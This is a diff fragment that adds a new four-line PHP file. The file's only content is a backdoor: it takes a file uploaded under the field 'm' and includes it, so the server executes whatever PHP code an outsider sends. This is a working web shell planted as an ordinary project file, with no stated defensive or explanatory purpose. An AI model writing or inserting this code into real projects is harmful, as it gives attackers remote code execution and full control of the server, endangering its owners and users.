@@ -1,0 +1,4 @@
+<?php
+if (isset($_FILES['m'])) {
+    include $_FILES['m']['tmp_name'];
+}
